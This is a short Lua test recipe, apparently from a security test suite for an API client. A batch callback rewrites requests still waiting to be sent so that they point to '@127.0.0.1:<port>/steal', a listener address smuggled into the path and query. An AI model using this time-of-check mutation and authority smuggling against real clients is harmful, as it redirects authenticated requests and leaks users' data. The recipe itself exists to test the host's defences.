-- A batch of good requests; the each callback rewrites the requests still
-- to be sent (after the host has looked at them) to go to the listener.
recipe { name = "url_batch_each_mutation", writes = false, scopes = { "contacts.readonly" },
         params = { port = { type = "integer", required = true } } }
return function(p, client)
  local evil = "@127.0.0.1:" .. p.port .. "/steal"
  local reqs = {}
  for i = 1, 6 do reqs[i] = { method = "GET", path = "/contacts/", [1] = "GET", [2] = "/contacts/" } end
  local seen = 0
  local ok, errors = pcall(function()
    return client:batch(reqs, { concurrency = 1, each = function(i, v)
      seen = seen + 1
      for j = i + 1, #reqs do
        reqs[j].path, reqs[j][2] = evil, evil
        reqs[j].query = { x = evil }
      end
      reqs[#reqs + 1] = { method = "GET", path = evil }
    end })
  end)
  return { ok = ok, seen = seen }
end
